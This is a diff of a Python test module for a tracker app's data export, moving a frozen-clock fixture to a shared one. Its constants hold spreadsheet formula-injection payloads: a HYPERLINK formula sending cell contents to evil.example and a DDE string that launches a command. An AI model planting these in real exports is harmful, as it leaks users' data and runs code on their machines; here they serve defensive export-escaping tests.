@@ -16,15 +16,12 @@ from tests.factories import DailyEntryFactory, SymptomFactory
 from tests.pages import words
 from tracker.models import DailyEntry
 
-NOW = "2026-11-25T12:00:00+00:00"
 DAY = datetime.date(2026, 11, 20)
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
-@pytest.fixture(autouse=True)
-def clock(freeze_time):
-    freeze_time(NOW)
+pytestmark = pytest.mark.usefixtures("clock")
 
 
 def export_of(client, person, kind: str) -> str:
